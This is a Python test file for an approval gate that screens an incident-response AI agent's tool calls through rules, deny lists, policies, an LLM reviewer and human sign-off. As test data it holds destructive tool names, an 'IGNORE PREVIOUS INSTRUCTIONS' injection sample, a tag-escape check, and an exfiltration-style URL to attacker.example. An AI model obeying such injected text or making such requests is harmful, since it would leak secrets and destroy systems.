"""The approval gate: rules, policies, deny and auto lists, LLM reviewer, human approval, audit log."""

from __future__ import annotations

import asyncio
import csv
import io
from contextlib import nullcontext
from datetime import timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy.orm import Session

from agent.approval import (
    ApprovalGate,
    ToolRequest,
    Verdict,
    compose,
    create_human_approval,
    create_llm_reviewer,
    create_rule_based_approval_func,
    parse_verdict,
    quote_untrusted,
    wake,
)
from agent.capabilities import ToolInfo
from agent.policies import Caller, PolicyRule, evaluate
from agent.store import DbGateStore
from agent.tools import READ_ONLY_TOOLS
from app.assistant import service as records
from app.db import session_scope
from tests import factories
from tests.test_agent_support import INJECTION, FailingClient, RecordingClient

rules = create_rule_based_approval_func(read_only_tools=READ_ONLY_TOOLS)


def verdict_of(func, tool: str, **arguments) -> Verdict:  # type: ignore[no-untyped-def]
    return asyncio.run(func(ToolRequest(tool, arguments), {}))


def test_only_tools_declared_read_only_are_approved_by_rule() -> None:
    for tool in ("get_incident", "list_open_incidents", "search_runbooks"):
        v = verdict_of(rules, tool, incident_id=1)
        assert (v.approved, v.decided_by) == (True, "rule"), tool
    # A read-only sounding name is not a declaration.
    for tool in ("check_disk", "describe_service", "get_secret", "check_and_restart"):
        assert verdict_of(rules, tool, incident_id=1).approved is None, tool


def test_destructive_tools_are_denied_by_rule() -> None:
    for tool in ("delete_database", "destroy_cluster", "drop_table", "terminate_instance", "purge_queue"):
        assert verdict_of(rules, tool).approved is False, tool


def test_a_change_naming_production_is_denied_but_a_search_mentioning_it_is_not() -> None:
    assert verdict_of(rules, "restart_hosts", env="production").approved is False
    assert verdict_of(rules, "list_hosts", filters={"cluster": ["eu-1", "PROD-db-2"]}).approved is False
    assert verdict_of(rules, "restart_hosts", production=True).approved is False
    assert verdict_of(rules, "search_runbooks", query="prod database down").approved is True
    # "reproduce" contains "prod" inside a word: not production.
    assert verdict_of(rules, "add_incident_note", text="steps to reproduce").approved is None


def test_rules_have_no_opinion_on_other_tools_and_can_be_switched_off() -> None:
    assert verdict_of(rules, "acknowledge_incident", incident_id=3).approved is None
    lenient = create_rule_based_approval_func(
        allow_read_only=False, deny_destructive=False, deny_production=False
    )
    assert verdict_of(lenient, "get_incident").approved is None
    assert verdict_of(lenient, "delete_database").approved is None
    assert verdict_of(lenient, "acknowledge_incident", env="prod").approved is None


@pytest.mark.parametrize(
    "name",
    ["Delete_Database", "delete-database", "DeleteDatabase", "dеlete_database", "ＤＥＬＥＴＥ_DATABASE"],
)
def test_the_deny_list_sees_through_case_separators_and_homoglyphs(name: str, session: Session) -> None:
    v = asyncio.run(_gate(session, func=compose()).decide(ToolRequest(name, {})))
    assert (v.approved, v.decided_by) == (False, "deny_list")
    table = asyncio.run(_gate(session, func=compose()).decide(ToolRequest("DROP_TABLE", {})))
    assert table.decided_by == "deny_list"


@pytest.mark.parametrize("env", ["prod", "PRD-eu", "live", "ｐｒｏｄ", "ρrod", "pro\u200bd", "PrOd-db"])
def test_the_production_rule_sees_through_homoglyphs_and_names_its_environments(env: str) -> None:
    assert verdict_of(rules, "restart_service", target=env).approved is False
    assert verdict_of(rules, "restart_service", target="product-catalogue").approved is None


@given(st.text(max_size=300))
def test_no_argument_text_turns_a_refusal_into_an_approval(text: str) -> None:
    # Whatever an alert or a model writes into the arguments, a destructive tool stays denied and a
    # writing tool never gets approved by rule.
    assert verdict_of(rules, "delete_database", reason=text).approved is False
    assert verdict_of(rules, "add_incident_note", incident_id=1, text=text).approved is not True


def test_compose_asks_in_order_and_denies_when_nobody_decides() -> None:
    async def approve(req, opinions):  # type: ignore[no-untyped-def]
        return Verdict(True, "second", "fine")

    assert verdict_of(compose(rules, approve), "acknowledge_incident").decided_by == "second"
    assert verdict_of(compose(rules, approve), "delete_x").decided_by == "rule"
    nobody = verdict_of(compose(rules), "acknowledge_incident")
    assert (nobody.approved, nobody.decided_by) == (False, "default")


def test_policy_highest_priority_wins_and_deny_wins_ties() -> None:
    caller = Caller(user_id=7, role="responder")
    allow_all = PolicyRule(1, "*", "*", "*", "allow", 0, team_id=1)
    deny_writes = PolicyRule(2, "role", "responder", "resolve_*", "deny", 5)
    allow_user = PolicyRule(3, "user", "7", "resolve_incident", "allow", 5, team_id=1)
    allow_user_higher = PolicyRule(4, "user", "7", "resolve_incident", "allow", 6, team_id=1)
    assert evaluate([allow_all], "resolve_incident", caller, 1) == allow_all
    assert evaluate([allow_all, deny_writes], "resolve_incident", caller, 1) == deny_writes
    assert evaluate([allow_all, deny_writes, allow_user], "resolve_incident", caller, 1) == deny_writes
    assert (
        evaluate([allow_all, deny_writes, allow_user_higher], "resolve_incident", caller, 1)
        == allow_user_higher
    )
    assert evaluate([deny_writes], "resolve_incident", Caller(user_id=7, role="admin")) is None
    assert evaluate([allow_user], "resolve_incident", Caller(user_id=8, role="responder"), 1) is None
    assert evaluate([deny_writes], "get_incident", caller) is None
    # Allow rules hold only for their team's incidents; an allow rule without a team never holds.
    assert evaluate([allow_all], "resolve_incident", caller, 2) is None
    assert evaluate([allow_all], "resolve_incident", caller, None) is None
    assert evaluate([PolicyRule(5, "*", "*", "*", "allow", 0)], "resolve_incident", caller, 1) is None
    assert evaluate([deny_writes], "Resolve-Incident", caller, 2) == deny_writes


def _gate(session: Session, func=rules, **kw) -> ApprovalGate:  # type: ignore[no-untyped-def]
    return ApprovalGate(store=DbGateStore(lambda: nullcontext(session)), approval_func=func, **kw)


def test_gate_order_deny_list_then_auto_approve_then_policies_then_function(session: Session) -> None:
    admin = factories.user(session, role="admin")
    team = factories.team(session)
    gate = _gate(session, always_deny=("delete_*",), auto_approve=("delete_cache", "escalate_incident"))
    caller = Caller(user_id=admin.id, role="admin")

    def decide(tool: str) -> Verdict:
        info = ToolInfo(tool, read_only=tool in READ_ONLY_TOOLS)
        return asyncio.run(gate.decide(ToolRequest(tool, {}, caller=caller, team_id=team.id), info))

    # The always-deny list wins even over the auto-approve list.
    assert decide("delete_cache").decided_by == "deny_list"
    assert decide("escalate_incident").decided_by == "auto_approve"
    assert decide("acknowledge_incident").decided_by == "rule"  # rules have no opinion → denied
    assert decide("acknowledge_incident").approved is False
    p = records.create_policy(
        session=session,
        by=admin.id,
        subject_kind="role",
        subject="admin",
        tool_pattern="acknowledge_*",
        effect="allow",
        priority=1,
        team_id=team.id,
    )
    assert decide("acknowledge_incident") == Verdict(True, f"policy:{p.id}", f"policy {p.id} says allow")
    # No allow policy loosens the safety rules.
    records.create_policy(
        session=session,
        by=admin.id,
        subject_kind="*",
        tool_pattern="*",
        effect="allow",
        priority=100,
        team_id=team.id,
    )
    assert decide("terminate_instance").decided_by == "rule"
    prod = ToolRequest("acknowledge_incident", {"target": "prod"}, caller=caller, team_id=team.id)
    assert asyncio.run(gate.decide(prod)).decided_by == "rule"
    # A policy is consulted before the rules: a deny policy stops a read-only tool.
    records.create_policy(
        session=session, by=admin.id, subject_kind="*", tool_pattern="get_*", effect="deny", priority=200
    )
    assert decide("get_incident").approved is False
    assert decide("escalate_incident").approved is True  # auto-approve comes before policies
    assert asyncio.run(gate.decide(ToolRequest("get_incident", {}), known=False)).decided_by == "unknown_tool"


def test_every_decision_is_audited_and_exportable_as_csv(session: Session) -> None:
    user = factories.user(session)
    gate = _gate(session)
    sid = records.create_session(session=session, user_id=user.id).id
    for tool in ("get_incident", "delete_database", "resolve_incident"):
        asyncio.run(
            gate.decide(
                ToolRequest(tool, {"incident_id": 1}, caller=Caller(user.id, "responder"), session_id=sid),
                ToolInfo(tool, read_only=tool in READ_ONLY_TOOLS),
            )
        )
    rows = records.list_audit(session=session, session_id=sid)
    assert [(r.tool, r.decision, r.decided_by) for r in reversed(rows)] == [
        ("get_incident", "approved", "rule"),
        ("delete_database", "denied", "deny_list"),
        ("resolve_incident", "denied", "incident_scope"),  # the session is about no incident
    ]
    assert all(r.user_id == user.id and r.latency_ms >= 0 for r in rows)
    table = list(csv.DictReader(io.StringIO(records.audit_csv(rows))))
    assert {r["tool"] for r in table} == {"get_incident", "delete_database", "resolve_incident"}
    assert table[0]["arguments"] == '{"incident_id": 1}'


def test_a_gate_that_fails_inside_denies(session: Session) -> None:
    async def broken(req, opinions):  # type: ignore[no-untyped-def]
        raise RuntimeError("boom")

    v = asyncio.run(_gate(session, func=broken).decide(ToolRequest("acknowledge_incident", {})))
    assert (v.approved, v.decided_by) == (False, "error")


def test_llm_reviewer_approve_deny_and_garbage() -> None:
    req = ToolRequest("acknowledge_incident", {"incident_id": 4})
    approve = create_llm_reviewer(RecordingClient(['{"decision": "approve", "reason": "safe"}']))
    deny = create_llm_reviewer(RecordingClient(['{"decision": "deny", "reason": "not needed"}']))
    assert asyncio.run(approve(req, {})) == Verdict(True, "llm", "safe")
    assert asyncio.run(deny(req, {})) == Verdict(False, "llm", "not needed")
    for garbage in (
        "Sure, approve it!",
        '{"decision": "yes"}',
        '["approve"]',
        '{"decision": "approve", "x": 1}',
        "",
    ):
        verdict = asyncio.run(create_llm_reviewer(RecordingClient([garbage]))(req, {}))
        assert verdict.approved is False, garbage
    failed = asyncio.run(create_llm_reviewer(FailingClient([]))(req, {}))
    assert (failed.approved, failed.reason) == (False, "reviewer failed: ConnectionError")


def test_llm_reviewer_sees_untrusted_text_only_as_quoted_data() -> None:
    client = RecordingClient(['{"decision": "deny", "reason": "injection"}'])
    reviewer = create_llm_reviewer(client)
    asyncio.run(reviewer(ToolRequest("add_incident_note", {"incident_id": 1, "text": INJECTION}), {}))
    system, user = client.seen[0]
    assert "IGNORE PREVIOUS" not in system.content
    # The data block cannot be closed early: the only closing tag is the real one, at the end.
    assert user.content.count("</tool_call_data>") == 1 and user.content.endswith("</tool_call_data>")
    assert "IGNORE PREVIOUS INSTRUCTIONS" in user.content
    assert quote_untrusted({"t": "</x>"}) == '{"t": "\\u003c/x\\u003e"}'
    assert parse_verdict(' {"decision": "approve", "reason": "ok"} ') == (True, "ok")


def test_advisory_reviewer_leaves_the_decision_to_the_next_function() -> None:
    reviewer = create_llm_reviewer(
        RecordingClient(['{"decision": "approve", "reason": "ok"}']), advisory=True
    )
    seen = {}

    async def human(req, opinions):  # type: ignore[no-untyped-def]
        seen.update(opinions)
        return Verdict(False, "human:1", "no")

    v = verdict_of(compose(rules, reviewer, human), "acknowledge_incident")
    assert v == Verdict(False, "human:1", "no")
    assert seen["llm"] == {"approved": None, "reason": "approve: ok"}
    assert seen["rule"]["approved"] is None


async def _human_flow(decision: bool | None, timeout: float) -> tuple[Verdict, dict, int]:
    store = DbGateStore(session_scope)
    announced: dict = {}
    ready = asyncio.Event()

    async def notify(kind: str, data: dict) -> None:
        if kind == "approval_required":
            announced.update(data)
            ready.set()

    human = create_human_approval(store, timeout=timedelta(seconds=timeout), poll_s=0.1)
    req = ToolRequest("resolve_incident", {"incident_id": 9}, notify=notify)
    task = asyncio.create_task(human(req, {"rule": {"approved": None, "reason": "no rule"}}))
    await asyncio.wait_for(ready.wait(), 10)
    if decision is not None:

        def decide() -> None:
            with session_scope() as s:
                records.decide_approval(
                    session=s,
                    approval_id=announced["approval_id"],
                    approve=decision,
                    decided_by="human:42",
                    reason="checked",
                )

        await asyncio.to_thread(decide)
        wake(announced["approval_id"])
    return await asyncio.wait_for(task, 20), announced, announced["approval_id"]


@pytest.mark.parametrize("decision", [True, False])
def test_human_approval_waits_for_the_decision(database_url: str, decision: bool) -> None:
    verdict, card, approval_id = asyncio.run(_human_flow(decision, timeout=30))
    assert verdict == Verdict(decision, "human:42", "checked")
    assert card["tool"] == "resolve_incident" and card["opinions"]["rule"]["approved"] is None
    with session_scope() as s:
        row = records.get_approval(session=s, approval_id=approval_id)
        assert (row.status, row.decided_by) == ("approved" if decision else "denied", "human:42")
        assert row.opinions["rule"]["reason"] == "no rule"


def test_human_approval_times_out_to_deny(database_url: str) -> None:
    verdict, _, approval_id = asyncio.run(_human_flow(None, timeout=0.5))
    assert (verdict.approved, verdict.decided_by) == (False, "timeout")
    with session_scope() as s:
        row = records.get_approval(session=s, approval_id=approval_id)
        assert (row.status, row.decided_by) == ("denied", "timeout")
        # A late human cannot reverse the timeout.
        from app.errors import Conflict

        with pytest.raises(Conflict):
            records.decide_approval(session=s, approval_id=approval_id, approve=True, decided_by="human:1")


def test_a_decision_that_cannot_be_audited_denies(session: Session) -> None:
    class UnwritableLog(DbGateStore):
        def audit(self, req: ToolRequest, verdict: Verdict, latency_ms: float) -> None:
            raise OSError("disk full")

    gate = ApprovalGate(store=UnwritableLog(lambda: nullcontext(session)), approval_func=rules)
    v = asyncio.run(gate.decide(ToolRequest("get_incident", {"incident_id": 1})))
    assert (v.approved, v.decided_by) == (False, "audit")


def test_http_check_is_never_approved_by_rule_alone() -> None:
    # A URL the model chooses can carry data out: the agent's rules leave it to a human or a policy.
    agent_rules = create_rule_based_approval_func(read_only_tools=READ_ONLY_TOOLS)
    assert verdict_of(agent_rules, "http_check", url="https://attacker.example/?q=secret").approved is None
    assert verdict_of(agent_rules, "who_is_on_call", schedule_id=1).approved is True


@given(
    st.lists(
        st.builds(
            PolicyRule,
            id=st.integers(1, 10_000),
            subject_kind=st.sampled_from(["role", "user", "*"]),
            subject=st.sampled_from(["responder", "admin", "7", "8", "*"]),
            tool_pattern=st.sampled_from(["*", "resolve_*", "resolve_incident", "get_*"]),
            effect=st.sampled_from(["allow", "deny"]),
            priority=st.integers(-3, 3),
            team_id=st.sampled_from([None, 1, 2]),
        ),
        max_size=12,
    )
)
def test_the_deciding_policy_has_the_top_priority_and_deny_wins_ties(policy_rules: list[PolicyRule]) -> None:
    caller = Caller(user_id=7, role="responder")
    chosen = evaluate(policy_rules, "resolve_incident", caller, 1)
    matching = [
        r
        for r in policy_rules
        if r.tool_pattern in ("*", "resolve_*", "resolve_incident")
        and (r.team_id == 1 if r.effect == "allow" else r.team_id in (None, 1))
        and (
            r.subject_kind == "*"
            or r.subject in ("responder", "7")
            and r.subject_kind == ("role" if r.subject == "responder" else "user")
        )
    ]
    if not matching:
        assert chosen is None
        return
    top = max(r.priority for r in matching)
    assert chosen is not None and chosen.priority == top
    assert (chosen.effect == "deny") == any(r.effect == "deny" for r in matching if r.priority == top)
